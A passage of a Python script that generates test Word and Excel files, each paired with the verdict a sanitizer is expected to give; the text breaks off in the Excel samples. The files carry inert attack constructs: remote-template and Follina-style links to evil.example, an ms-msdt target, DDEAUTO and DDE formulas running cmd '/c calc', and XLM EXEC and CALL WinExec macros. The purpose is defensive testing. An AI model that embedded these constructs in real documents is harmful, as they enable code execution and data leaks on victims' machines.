#!/usr/bin/env python3
"""Write the hand-made OOXML corpus samples and their .expect files.

Usage: ooxml.py [outdir]   (default: tests/corpus/files/ooxml next to
this script's tests/ folder). Standard library only; the output is
byte-for-byte reproducible (fixed zip timestamps, sorted nothing).

Every sample carries a proper [Content_Types].xml so that the engine
detects its type from content. Payloads are inert (calc.exe, example
hosts); nothing here works as malware.
"""
import os
import sys
import zipfile
import zlib

DT = (2024, 1, 1, 0, 0, 0)

NS_W = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main'
NS_R = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
NS_S = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main'
NS_P = 'http://schemas.openxmlformats.org/presentationml/2006/main'
NS_A = 'http://schemas.openxmlformats.org/drawingml/2006/main'
NS_MC = 'http://schemas.openxmlformats.org/markup-compatibility/2006'
RT = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
RT_MS = 'http://schemas.microsoft.com/office/2006/relationships/'
CT = 'application/vnd.openxmlformats-officedocument.'
DECL = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'

CT_DOCX = CT + 'wordprocessingml.document.main+xml'
CT_DOCM = 'application/vnd.ms-word.document.macroEnabled.main+xml'
CT_XLSX = CT + 'spreadsheetml.sheet.main+xml'
CT_XLSM = 'application/vnd.ms-excel.sheet.macroEnabled.main+xml'
CT_PPTX = CT + 'presentationml.presentation.main+xml'
CT_PPTM = 'application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml'

FAKE_VBA = b'\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1' + b'\0' * 504 + b'Attribute VB_Name'
FAKE_OLE = b'\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1' + b'\0' * 504 + b'Ole10Native calc.exe'
PNG = (b'\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x01\0\0\0\x01\x08\x06\0\0\0\x1f'
       b'\x15\xc4\x89\0\0\0\rIDATx\x9cc\xf8\xff\xff?\0\x05\xfe\x02\xfe\xa7'
       b'5\x81\x84\0\0\0\0IEND\xaeB`\x82')


def ctypes(overrides, defaults=()):
    d = [('rels', 'application/vnd.openxmlformats-package.relationships+xml'),
         ('xml', 'application/xml')] + list(defaults)
    s = DECL + '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    s += ''.join('<Default Extension="%s" ContentType="%s"/>' % x for x in d)
    s += ''.join('<Override PartName="/%s" ContentType="%s"/>' % x for x in overrides)
    return s + '</Types>'


def rels(items):
    """items: (id, type, target[, mode])"""
    s = DECL + '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    for it in items:
        rid, typ, target = it[:3]
        mode = ' TargetMode="%s"' % it[3] if len(it) > 3 else ''
        if not typ.startswith('http'):
            typ = RT + typ
        s += '<Relationship Id="%s" Type="%s" Target="%s"%s/>' % (rid, typ, target, mode)
    return s + '</Relationships>'


def write_zip(path, parts, compress=zipfile.ZIP_DEFLATED):
    with zipfile.ZipFile(path, 'w') as z:
        for name, data in parts:
            if isinstance(data, str):
                data = data.encode('utf-8')
            zi = zipfile.ZipInfo(name, DT)
            zi.compress_type = compress
            z.writestr(zi, data)


# ---------------------------------------------------------------- Word

def wdoc(body, extra_ns=''):
    return (DECL + '<w:document xmlns:w="%s" xmlns:r="%s" '
            'xmlns:v="urn:schemas-microsoft-com:vml" '
            'xmlns:o="urn:schemas-microsoft-com:office:office" '
            'xmlns:a="%s" xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture" '
            'xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing"%s>'
            '<w:body>%s<w:sectPr/></w:body></w:document>' % (NS_W, NS_R, NS_A, extra_ns, body))


def p(*runs):
    return '<w:p>%s</w:p>' % ''.join(runs)


def r(text):
    return '<w:r><w:t xml:space="preserve">%s</w:t></w:r>' % text


def fld(*instr, result='result'):
    """A complex field whose instruction is split over several runs."""
    s = '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
    s += ''.join('<w:r><w:instrText xml:space="preserve">%s</w:instrText></w:r>' % i for i in instr)
    s += '<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
    s += r(result)
    s += '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    return s


def docx(doc, doc_rels=(), extra_parts=(), extra_ct=(), main_ct=CT_DOCX,
         root_rels=(), defaults=()):
    parts = [
        ('[Content_Types].xml', ctypes([('word/document.xml', main_ct)] + list(extra_ct), defaults)),
        ('_rels/.rels', rels([('rId1', 'officeDocument', 'word/document.xml')] + list(root_rels))),
        ('word/document.xml', doc),
    ]
    if doc_rels:
        parts.append(('word/_rels/document.xml.rels', rels(doc_rels)))
    return parts + list(extra_parts)


def settings(inner):
    return (DECL + '<w:settings xmlns:w="%s" xmlns:r="%s">%s</w:settings>' % (NS_W, NS_R, inner))


SETTINGS_CT = ('word/settings.xml', CT + 'wordprocessingml.settings+xml')


def word_samples():
    S = {}
    S['clean.docx'] = (docx(wdoc(p(r('Hello, clean world.')) + p(fld(' PAGE ', result='1')))),
                       'clean', [])
    S['hyperlink.docx'] = (docx(
        wdoc(p('<w:hyperlink r:id="rId5">%s</w:hyperlink>' % r('example'))),
        [('rId5', 'hyperlink', 'https://www.example.org/', 'External')]),
        'clean', [('ooxml.hyperlink', 'reported')])
    S['hyperlink-unc.docx'] = (docx(
        wdoc(p('<w:hyperlink r:id="rId5">%s</w:hyperlink>' % r('share'))),
        [('rId5', 'hyperlink', 'file://///evil.example/share/x.exe', 'External')]),
        'sanitized', [('ooxml.external_rel', 'removed')])
    S['remote-template.docx'] = (docx(
        wdoc(p(r('template injection'))),
        [('rId1', 'settings', 'settings.xml')],
        [('word/settings.xml', settings('<w:attachedTemplate r:id="rId9"/>')),
         ('word/_rels/settings.xml.rels', rels([('rId9', 'attachedTemplate',
                                                 'http://evil.example/t.dotm', 'External')]))],
        [SETTINGS_CT]),
        'sanitized', [('ooxml.external_rel', 'removed')])
    # odd spelling of TargetMode and a UNC target
    S['remote-template-oddmode.docx'] = (docx(
        wdoc(p(r('template injection, odd mode'))),
        [('rId1', 'settings', 'settings.xml')],
        [('word/settings.xml', settings('<w:attachedTemplate r:id="rId9"/>')),
         ('word/_rels/settings.xml.rels', rels([('rId9', 'attachedTemplate',
                                                 '\\\\evil.example\\share\\t.dotm', ' eXternal ')]))],
        [SETTINGS_CT]),
        'sanitized', [('ooxml.external_rel', 'removed')])
    # template relationship with no TargetMode at all: the http target betrays it
    S['remote-template-nomode.docx'] = (docx(
        wdoc(p(r('template injection, no mode'))),
        [('rId1', 'settings', 'settings.xml')],
        [('word/settings.xml', settings('<w:attachedTemplate r:id="rId9"/>')),
         ('word/_rels/settings.xml.rels', rels([('rId9', 'attachedTemplate',
                                                 'hTTp://evil.example/t.dotm')]))],
        [SETTINGS_CT]),
        'sanitized', [('ooxml.external_rel', 'removed')])
    ole_link = ('<w:r><w:object><v:shape id="_x0000_i1025" style="width:1pt;height:1pt" o:ole="">'
                '<v:imagedata r:id="rId6"/></v:shape><o:OLEObject Type="Link" ProgID="htmlfile" '
                'ShapeID="_x0000_i1025" DrawAspect="Content" r:id="rId7" UpdateMode="OnCall">'
                '<o:LinkType>EnhancedMetaFile</o:LinkType><o:LockedField>false</o:LockedField>'
                '</o:OLEObject></w:object></w:r>')
    S['follina.docx'] = (docx(
        wdoc(p(r('Follina'), ole_link)),
        [('rId6', 'image', 'media/image1.png'),
         ('rId7', 'oleObject', 'mhtml:http://evil.example/x.html!x-usc:http://evil.example/x.html',
          'External')],
        [('word/media/image1.png', PNG)], defaults=[('png', 'image/png')]),
        'sanitized', [('ooxml.external_rel', 'removed')])
    S['follina-nomode.docx'] = (docx(
        wdoc(p(r('Follina without mode'), ole_link)),
        [('rId6', 'image', 'media/image1.png'),
         ('rId7', 'oleObject', 'ms-msdt:/id PCWDiagnostic /skip force')],
        [('word/media/image1.png', PNG)], defaults=[('png', 'image/png')]),
        'sanitized', [('ooxml.external_rel', 'removed')])
    S['ddeauto-split.docx'] = (docx(wdoc(
        p(r('before')) + p(fld('dD', 'eAu', 'To c:\\\\windows\\\\system32\\\\cmd.exe ',
                             '"/k calc.exe"', result='visible result')) + p(r('after')))),
        'sanitized', [('ooxml.dde', 'removed')])
    S['dde-fldsimple.docx'] = (docx(wdoc(p(
        '<w:fldSimple w:instr=" DDE c:\\\\windows\\\\system32\\\\cmd.exe &quot;/c calc&quot;">%s'
        '</w:fldSimple>' % r('shown')))),
        'sanitized', [('ooxml.dde', 'removed')])
    # the field name hidden behind a character reference and tracked deletion
    S['dde-deleted-instr.docx'] = (docx(wdoc(p(
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        '<w:del w:id="1" w:author="x"><w:r><w:delInstrText>&#68;DE</w:delInstrText></w:r></w:del>'
        '<w:r><w:instrText>AUTO cmd "/c calc"</w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r>'))),
        'sanitized', [('ooxml.dde', 'removed')])
    S['includetext.docx'] = (docx(wdoc(p(fld(
        ' INCLUDETEXT "\\\\\\\\evil.example\\\\share\\\\x.docx" ', result='included text')))),
        'sanitized', [('ooxml.field_code', 'removed')])
    S['includepicture.docx'] = (docx(wdoc(p(fld(
        ' INCLUDEPICTURE "http://evil.example/track.png" \\d ', result='pic')))),
        'sanitized', [('ooxml.field_code', 'removed')])
    S['macrobutton.docx'] = (docx(wdoc(p(fld(
        ' MACROBUTTON AutoOpen Click me ', result='')))),
        'sanitized', [('ooxml.field_code', 'removed')])
    # the field name is produced by a nested QUOTE field: never harmless
    S['nested-quote.docx'] = (docx(wdoc(p(
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        + fld(' QUOTE "DDEAUTO" ', result='DDEAUTO')
        + '<w:r><w:instrText xml:space="preserve"> c:\\\\windows\\\\system32\\\\cmd.exe "/c calc"</w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r>' + r('outer result')
        + '<w:r><w:fldChar w:fldCharType="end"/></w:r>'))),
        'sanitized', [('ooxml.field_code', 'removed')])
    # DDE in a header part, field spanning two paragraphs, no end
    hdr = (DECL + '<w:hdr xmlns:w="%s" xmlns:r="%s">' % (NS_W, NS_R)
           + p('<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
               '<w:r><w:instrText>DDEAUTO cmd</w:instrText></w:r>')
           + p('<w:r><w:instrText> "/c calc"</w:instrText></w:r>') + '</w:hdr>')
    S['dde-header.docx'] = (docx(
        wdoc(p(r('body')) + '<w:sectPr><w:headerReference w:type="default" r:id="rId3"/></w:sectPr>'),
        [('rId3', 'header', 'header1.xml')],
        [('word/header1.xml', hdr)],
        [('word/header1.xml', CT + 'wordprocessingml.header+xml')]),
        'sanitized', [('ooxml.dde', 'removed')])
    strict = ('<?xml version="1.0" encoding="UTF-8"?><w:document '
              'xmlns:w="http://purl.oclc.org/ooxml/wordprocessingml/main"><w:body>'
              + p(fld('DDEAUTO cmd "/c calc"')) + '</w:body></w:document>')
    S['dde-strict.docx'] = (docx(strict), 'sanitized', [('ooxml.dde', 'removed')])
    utf16 = wdoc(p(fld('DDE cmd "/c calc"'))).replace('encoding="UTF-8"', 'encoding="UTF-16"')
    S['dde-utf16.docx'] = (docx(b'\xff\xfe' + utf16.encode('utf-16-le')),
                           'sanitized', [('ooxml.dde', 'removed')])
    S['vba.docm'] = (docx(
        wdoc(p(r('macros inside'))),
        [('rId1', RT_MS + 'vbaProject', 'vbaProject.bin')],
        [('word/vbaProject.bin', FAKE_VBA),
         ('word/_rels/vbaProject.bin.rels', rels([('rId1', RT_MS + 'wordVbaData', 'vbaData.xml')])),
         ('word/vbaData.xml', DECL + '<wne:vbaSuppData xmlns:wne="http://schemas.microsoft.com/office/word/2006/wordml"/>')],
        [('word/vbaData.xml', 'application/vnd.ms-word.vbaData+xml')],
        main_ct=CT_DOCM, defaults=[('bin', 'application/vnd.ms-office.vbaProject')]),
        'sanitized', [('ooxml.vba', 'removed'), ('ooxml.macro_enabled', 'removed')])
    # VBA project smuggled under an innocent name and relationship-less copy
    S['vba-renamed.docx'] = (docx(
        wdoc(p(r('renamed macros'))),
        [('rId1', RT_MS + 'vbaProject', 'media/image9.png')],
        [('word/media/image9.png', FAKE_VBA), ('word/VBAPROJECT.BIN', FAKE_VBA)],
        defaults=[('png', 'image/png')]),
        'sanitized', [('ooxml.vba', 'removed')])
    S['activex.docx'] = (docx(
        wdoc(p('<w:r><w:object><v:shape id="_x0000_i1025" style="width:50pt;height:20pt">'
               '<v:imagedata r:id="rId6"/></v:shape><w:control r:id="rId7" w:name="CommandButton1" '
               'w:shapeid="_x0000_i1025"/></w:object></w:r>')),
        [('rId6', 'image', 'media/image1.png'), ('rId7', 'control', 'activeX/activeX1.xml')],
        [('word/media/image1.png', PNG),
         ('word/activeX/activeX1.xml', DECL + '<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" '
          'xmlns:r="%s" ax:classid="{D7053240-CE69-11CD-A777-00DD01143C57}" ax:persistence="persistStorage" r:id="rId1"/>' % NS_R),
         ('word/activeX/_rels/activeX1.xml.rels', rels([('rId1', RT_MS + 'activeXControlBinary', 'activeX1.bin')])),
         ('word/activeX/activeX1.bin', FAKE_OLE)],
        [('word/activeX/activeX1.xml', 'application/vnd.ms-office.activeX+xml'),
         ('word/activeX/activeX1.bin', 'application/vnd.ms-office.activeX')],
        defaults=[('png', 'image/png')]),
        'sanitized', [('ooxml.activex', 'removed')])
    S['ole-embedded.docx'] = (docx(
        wdoc(p('<w:r><w:object w:dxaOrig="100" w:dyaOrig="100"><v:shape id="_x0000_i1025" o:ole="" '
               'style="width:5pt;height:5pt"><v:imagedata r:id="rId6"/></v:shape><o:OLEObject Type="Embed" '
               'ProgID="Package" ShapeID="_x0000_i1025" r:id="rId7"/></w:object></w:r>')),
        [('rId6', 'image', 'media/image1.png'), ('rId7', 'oleObject', 'embeddings/oleObject1.bin')],
        [('word/media/image1.png', PNG), ('word/embeddings/oleObject1.bin', FAKE_OLE)],
        [('word/embeddings/oleObject1.bin', CT + 'oleObject')],
        defaults=[('png', 'image/png')]),
        'sanitized', [('ooxml.ole_object', 'removed')])
    S['altchunk.docx'] = (docx(
        wdoc(p(r('chunk follows')) + '<w:altChunk r:id="rId8"/>'),
        [('rId8', RT + 'aFChunk', 'afchunk.mht')],
        [('word/afchunk.mht', 'MIME-Version: 1.0\r\n\r\n<html><script>x</script></html>')],
        defaults=[('mht', 'message/rfc822')]),
        'sanitized', [('ooxml.ole_object', 'removed')])
    S['subdoc.docx'] = (docx(
        wdoc(p('<w:subDoc r:id="rId8"/>') + p(r('master'))),
        [('rId8', 'subDocument', 'file:///C:/Users/x/sub.docx', 'External')]),
        'sanitized', [('ooxml.external_rel', 'removed')])
    blip = ('<w:r><w:drawing><wp:inline><wp:extent cx="10" cy="10"/><wp:docPr id="1" name="p"/>'
            '<a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture">'
            '<pic:pic><pic:nvPicPr><pic:cNvPr id="1" name="p"/><pic:cNvPicPr/></pic:nvPicPr>'
            '<pic:blipFill><a:blip r:link="rId9"/></pic:blipFill><pic:spPr/></pic:pic>'
            '</a:graphicData></a:graphic></wp:inline></w:drawing></w:r>')
    S['external-image.docx'] = (docx(
        wdoc(p(blip)),
        [('rId9', 'image', '\\\\evil.example\\share\\leak.png', 'External')]),
        'sanitized', [('ooxml.external_rel', 'removed')])
    S['mailmerge.docx'] = (docx(
        wdoc(p(r('mail merge'))),
        [('rId1', 'settings', 'settings.xml')],
        [('word/settings.xml', settings(
            '<w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:dataType w:val="native"/>'
            '<w:connectString w:val="Provider=Microsoft.ACE.OLEDB.12.0;Data Source=\\\\evil.example\\x.xlsx"/>'
            '<w:query w:val="SELECT * FROM `Sheet1$`"/><w:dataSource r:id="rId1"/></w:mailMerge>')),
         ('word/_rels/settings.xml.rels', rels([('rId1', 'mailMergeSource',
                                                 'file:///\\\\evil.example\\x.xlsx', 'External')]))],
        [SETTINGS_CT]),
        'sanitized', [('ooxml.external_rel', 'removed')])
    S['customui.docm'] = (docx(
        wdoc(p(r('ribbon callbacks'))), (),
        [('customUI/customUI14.xml', DECL + '<customUI xmlns="http://schemas.microsoft.com/office/2009/07/customui" '
          'onLoad="Evil"><ribbon/></customUI>')],
        main_ct=CT_DOCM,
        root_rels=[('rId9', 'http://schemas.microsoft.com/office/2007/relationships/ui/extensibility',
                    'customUI/customUI14.xml')]),
        'sanitized', [('ooxml.custom_ui', 'removed'), ('ooxml.macro_enabled', 'removed')])
    webext = (DECL + '<we:webextension xmlns:we="http://schemas.microsoft.com/office/webextensions/webextension/2010/11" '
              'id="{00000000-0000-0000-0000-000000000001}"><we:reference id="wa000000000" version="1.0.0.0" '
              'store="https://evil.example/manifest.xml" storeType="Uri"/><we:properties/><we:bindings/>'
              '<we:snapshot/></we:webextension>')
    taskpanes = (DECL + '<wetp:taskpanes xmlns:wetp="http://schemas.microsoft.com/office/webextensions/taskpanes/2010/11" '
                 'xmlns:r="%s"><wetp:taskpane dockstate="right" visibility="1" width="350" row="0">'
                 '<wetp:webextensionref r:id="rId1"/></wetp:taskpane></wetp:taskpanes>' % NS_R)
    S['web-addin.docx'] = (docx(
        wdoc(p(r('an add-in opens with me'))), (),
        [('word/webextensions/taskpanes.xml', taskpanes),
         ('word/webextensions/_rels/taskpanes.xml.rels', rels([(
             'rId1', 'http://schemas.microsoft.com/office/2011/relationships/webextension', 'webextension1.xml')])),
         ('word/webextensions/webextension1.xml', webext)],
        [('word/webextensions/taskpanes.xml', 'application/vnd.ms-office.webextensiontaskpanes+xml'),
         ('word/webextensions/webextension1.xml', 'application/vnd.ms-office.webextension+xml')],
        root_rels=[('rId9', 'http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes',
                    'word/webextensions/taskpanes.xml')]),
        'sanitized', [('ooxml.custom_ui', 'removed')])
    app = (DECL + '<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/extended-properties">'
           '<HyperlinkBase>\\\\evil.example\\share\\</HyperlinkBase></Properties>')
    S['hyperlinkbase.docx'] = (docx(
        wdoc(p(r('relative links go elsewhere'))), (),
        [('docProps/app.xml', app)],
        [('docProps/app.xml', CT + 'extended-properties+xml')],
        root_rels=[('rId2', RT + 'extended-properties', 'docProps/app.xml')]),
        'sanitized', [('ooxml.external_rel', 'removed')])
    S['formfield-macro.docx'] = (docx(wdoc(p(
        '<w:r><w:fldChar w:fldCharType="begin"><w:ffData><w:name w:val="Text1"/>'
        '<w:entryMacro w:val="AutoExec"/><w:textInput/></w:ffData></w:fldChar></w:r>'
        '<w:r><w:instrText> FORMTEXT </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        + r('input') + '<w:r><w:fldChar w:fldCharType="end"/></w:r>'))),
        'sanitized', [('ooxml.field_code', 'removed')])
    chart = (DECL + '<c:chartSpace xmlns:c="http://schemas.openxmlformats.org/drawingml/2006/chart" '
             'xmlns:a="%s" xmlns:r="%s"><c:chart><c:plotArea><c:layout/></c:plotArea></c:chart>'
             '<c:externalData r:id="rId1"><c:autoUpdate val="0"/></c:externalData></c:chartSpace>' % (NS_A, NS_R))
    S['chart-workbook.docx'] = (docx(
        wdoc(p('<w:r><w:drawing><wp:inline><wp:extent cx="10" cy="10"/><wp:docPr id="1" name="c"/>'
               '<a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/chart">'
               '<c:chart xmlns:c="http://schemas.openxmlformats.org/drawingml/2006/chart" r:id="rId4"/>'
               '</a:graphicData></a:graphic></wp:inline></w:drawing></w:r>')),
        [('rId4', 'chart', 'charts/chart1.xml')],
        [('word/charts/chart1.xml', chart),
         ('word/charts/_rels/chart1.xml.rels', rels([('rId1', 'package',
                                                      '../embeddings/Microsoft_Excel_Worksheet.xlsm')])),
         ('word/embeddings/Microsoft_Excel_Worksheet.xlsm', FAKE_VBA)],
        [('word/charts/chart1.xml', CT + 'drawingml.chart+xml')],
        defaults=[('xlsm', 'application/vnd.ms-excel.sheet.macroEnabled.12')]),
        'sanitized', [('ooxml.ole_object', 'removed')])
    return S


# ---------------------------------------------------------------- Excel

def wb(sheets, extra=''):
    s = ''.join('<sheet name="%s" sheetId="%d" r:id="%s"/>' % (n, i + 1, rid)
                for i, (n, rid) in enumerate(sheets))
    return (DECL + '<workbook xmlns="%s" xmlns:r="%s"><bookViews><workbookView activeTab="%d"/>'
            '</bookViews><sheets>%s</sheets>%s</workbook>' % (NS_S, NS_R, len(sheets) - 1, s, extra))


def ws(cells='', extra=''):
    return (DECL + '<worksheet xmlns="%s" xmlns:r="%s"><sheetData>%s</sheetData>%s</worksheet>'
            % (NS_S, NS_R, cells, extra))


WS_CT = CT + 'spreadsheetml.worksheet+xml'


def xlsx(wb_xml, wb_rels, parts=(), cts=(), main_ct=CT_XLSX, defaults=()):
    return [
        ('[Content_Types].xml', ctypes([('xl/workbook.xml', main_ct)] + list(cts), defaults)),
        ('_rels/.rels', rels([('rId1', 'officeDocument', 'xl/workbook.xml')])),
        ('xl/workbook.xml', wb_xml),
        ('xl/_rels/workbook.xml.rels', rels(wb_rels)),
    ] + list(parts)


def excel_samples():
    S = {}
    sheet1 = ('xl/worksheets/sheet1.xml', ws('<row r="1"><c r="A1" t="inlineStr"><is><t>hello</t></is></c>'
                                             '<c r="B1"><f>1+1</f><v>2</v></c></row>'))
    S['clean.xlsx'] = (xlsx(wb([('Sheet1', 'rId1')]), [('rId1', 'worksheet', 'worksheets/sheet1.xml')],
                            [sheet1], [('xl/worksheets/sheet1.xml', WS_CT)]), 'clean', [])
    macro = (DECL + '<xm:macrosheet xmlns="%s" xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main">'
             '<sheetData><row r="1"><c r="A1"><f>EXEC("calc.exe")</f></c></row>'
             '<row r="2"><c r="A2"><f>HALT()</f></c></row></sheetData></xm:macrosheet>' % NS_S)
    S['macrosheet.xlsm'] = (xlsx(
        wb([('Sheet1', 'rId1'), ('Macro1', 'rId2')],
           '<definedNames><definedName name="_xlnm.Auto_Open" hidden="1">Macro1!$A$1</definedName>'
           '<definedName name="keep" localSheetId="0">Sheet1!$A$1</definedName></definedNames>'),
        [('rId1', 'worksheet', 'worksheets/sheet1.xml'),
         ('rId2', RT_MS + 'xlMacrosheet', 'macrosheets/sheet1.xml')],
        [sheet1, ('xl/macrosheets/sheet1.xml', macro)],
        [('xl/worksheets/sheet1.xml', WS_CT),
         ('xl/macrosheets/sheet1.xml', 'application/vnd.ms-excel.macrosheet+xml')],
        main_ct=CT_XLSM),
        'sanitized', [('ooxml.xlm', 'removed'), ('ooxml.macro_enabled', 'removed')])
    # a macro sheet declared as an ordinary worksheet: the name betrays it
    S['macrosheet-disguised.xlsx'] = (xlsx(
        wb([('Sheet1', 'rId1'), ('Data', 'rId2')]),
        [('rId1', 'worksheet', 'worksheets/sheet1.xml'),
         ('rId2', 'worksheet', 'macrosheets/sheet1.xml')],
        [sheet1, ('xl/macrosheets/sheet1.xml', macro)],
        [('xl/worksheets/sheet1.xml', WS_CT), ('xl/macrosheets/sheet1.xml', WS_CT)]),
        'sanitized', [('ooxml.xlm', 'removed')])
    ext = (DECL + '<externalLink xmlns="%s" xmlns:r="%s"><externalBook r:id="rId1"><sheetNames>'
           '<sheetName val="S"/></sheetNames></externalBook></externalLink>' % (NS_S, NS_R))
    S['external-link.xlsx'] = (xlsx(
        wb([('Sheet1', 'rId1')], '<externalReferences><externalReference r:id="rId2"/></externalReferences>'),
        [('rId1', 'worksheet', 'worksheets/sheet1.xml'),
         ('rId2', 'externalLink', 'externalLinks/externalLink1.xml')],
        [('xl/worksheets/sheet1.xml', ws('<row r="1"><c r="A1"><f>[1]S!A1*2</f><v>4</v></c>'
                                         '<c r="A2"><f t="shared" ref="A2:A3" si="0">\'[1]S\'!A2</f><v>1</v></c>'
                                         '<c r="A3"><f t="shared" si="0"/><v>1</v></c></row>')),
         ('xl/externalLinks/externalLink1.xml', ext),
         ('xl/externalLinks/_rels/externalLink1.xml.rels',
          rels([('rId1', 'externalLinkPath', 'file:///\\\\evil.example\\share\\book.xlsx', 'External')]))],
        [('xl/worksheets/sheet1.xml', WS_CT),
         ('xl/externalLinks/externalLink1.xml', CT + 'spreadsheetml.externalLink+xml')]),
        'sanitized', [('ooxml.external_link', 'removed')])
    dde = (DECL + '<externalLink xmlns="%s"><ddeLink ddeService="cmd" ddeTopic="/c calc.exe">'
           '<ddeItems><ddeItem name="A0" advise="1"/></ddeItems></ddeLink></externalLink>' % NS_S)
    S['ddelink.xlsx'] = (xlsx(
        wb([('Sheet1', 'rId1')], '<externalReferences><externalReference r:id="rId2"/></externalReferences>'),
        [('rId1', 'worksheet', 'worksheets/sheet1.xml'),
         ('rId2', 'externalLink', 'externalLinks/externalLink1.xml')],
        [('xl/worksheets/sheet1.xml', ws('<row r="1"><c r="A1" t="e"><f>[1]!A0</f><v>#REF!</v></c></row>')),
         ('xl/externalLinks/externalLink1.xml', dde)],
        [('xl/worksheets/sheet1.xml', WS_CT),
         ('xl/externalLinks/externalLink1.xml', CT + 'spreadsheetml.externalLink+xml')]),
        'sanitized', [('ooxml.dde', 'removed')])
    S['dde-formula.xlsx'] = (xlsx(
        wb([('Sheet1', 'rId1')]), [('rId1', 'worksheet', 'worksheets/sheet1.xml')],
        [('xl/worksheets/sheet1.xml', ws(
            '<row r="1"><c r="A1"><f>cmd|\' /C calc\'!A0</f><v>0</v></c>'
            '<c r="B1" t="str"><f>"a|b"&amp;"c"</f><v>a|bc</v></c></row>'))],
        [('xl/worksheets/sheet1.xml', WS_CT)]),
        'sanitized', [('ooxml.dde', 'removed')])
    # DDE pipe written as a character reference, in a defined name too
    S['dde-formula-charref.xlsx'] = (xlsx(
        wb([('Sheet1', 'rId1')], '<definedNames><definedName name="x">MSEXCEL&#x7C;\'\\..\\..\\Windows\\System32\\cmd.exe /c calc\'!\'\'</definedName></definedNames>'),
        [('rId1', 'worksheet', 'worksheets/sheet1.xml')],
        [('xl/worksheets/sheet1.xml', ws('<row r="1"><c r="A1"><f>CMD&#124;\'/c calc\'!A0</f><v>0</v></c></row>'))],
        [('xl/worksheets/sheet1.xml', WS_CT)]),
        'sanitized', [('ooxml.dde', 'removed')])
    S['call-formula.xlsx'] = (xlsx(
        wb([('Sheet1', 'rId1')]), [('rId1', 'worksheet', 'worksheets/sheet1.xml')],
        [('xl/worksheets/sheet1.xml', ws(
            '<row r="1"><c r="A1"><f>CALL("Kernel32","WinExec","JCJ","calc.exe",0)</f><v>0</v></c></row>'))],
        [('xl/worksheets/sheet1.xml', WS_CT)]),
        'sanitized', [('ooxml.xlm', 'removed')])
    S['hyperlink-file.xlsx'] = (xlsx(
        wb([('Sheet1', 'rId1')]), [('rId1', 'worksheet', 'worksheets/sheet1.xml')],
        [('xl/worksheets/sheet1.xml', ws('<row r="1"><c r="A1" t="inlineStr"><is><t>x</t></is></c></row>',
                                         '<hyperlinks><hyperlink ref="A1" r:id="rId1"/></hyperlinks>')),
         ('xl/worksheets/_rels/sheet1.xml.rels',
          rels([('rId1', 'hyperlink', 'file:///C:/Windows/System32/calc.exe', 'External')]))],
        [('xl/worksheets/sheet1.xml', WS_CT)]),
        'sanitized', [('ooxml.external_rel', 'removed')])
    x14 = ('<mc:AlternateContent xmlns:mc="%s"><mc:Choice Requires="x14">'
           '<oleObject progId="Package" shapeId="1025" r:id="rId2"><objectPr defaultSize="0" r:id="rId3">'
           '<anchor moveWithCells="1"><from><xdr:col xmlns:xdr="x">0</xdr:col></from></anchor></objectPr>'
           '</oleObject></mc:Choice><mc:Fallback><oleObject progId="Package" shapeId="1025" r:id="rId2"/>'
           '</mc:Fallback></mc:AlternateContent>' % NS_MC)
    ax = ('<mc:AlternateContent xmlns:mc="%s"><mc:Choice Requires="x14"><control shapeId="1026" '
          'r:id="rId4" name="CommandButton1"><controlPr defaultSize="0" r:id="rId3"/></control>'
          '</mc:Choice><mc:Fallback><control shapeId="1026" r:id="rId4" name="CommandButton1"/>'
          '</mc:Fallback></mc:AlternateContent>' % NS_MC)
    S['activex-ole.xlsx'] = (xlsx(
        wb([('Sheet1', 'rId1')]), [('rId1', 'worksheet', 'worksheets/sheet1.xml')],
        [('xl/worksheets/sheet1.xml', ws('<row r="1"><c r="A1"><v>1</v></c></row>',
                                         '<oleObjects>%s</oleObjects><controls>%s</controls>' % (x14, ax))),
         ('xl/worksheets/_rels/sheet1.xml.rels', rels([
             ('rId2', 'oleObject', '../embeddings/oleObject1.bin'),
             ('rId3', 'image', '../media/image1.png'),
             ('rId4', 'control', '../activeX/activeX1.xml')])),
         ('xl/embeddings/oleObject1.bin', FAKE_OLE), ('xl/media/image1.png', PNG),
         ('xl/activeX/activeX1.xml', DECL + '<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" '
          'ax:classid="{D7053240-CE69-11CD-A777-00DD01143C57}"/>')],
        [('xl/worksheets/sheet1.xml', WS_CT), ('xl/activeX/activeX1.xml', 'application/vnd.ms-office.activeX+xml'),
         ('xl/embeddings/oleObject1.bin', CT + 'oleObject')],
        defaults=[('png', 'image/png')]),
        'sanitized', [('ooxml.ole_object', 'removed'), ('ooxml.activex', 'removed')])
    conn = (DECL + '<connections xmlns="%s"><connection id="1" name="q" type="4" refreshedVersion="6" '
            'refreshOnLoad="1"><webPr url="http://evil.example/q.iqy"/></connection></connections>' % NS_S)
    S['web-query.xlsx'] = (xlsx(
        wb([('Sheet1', 'rId1')]),
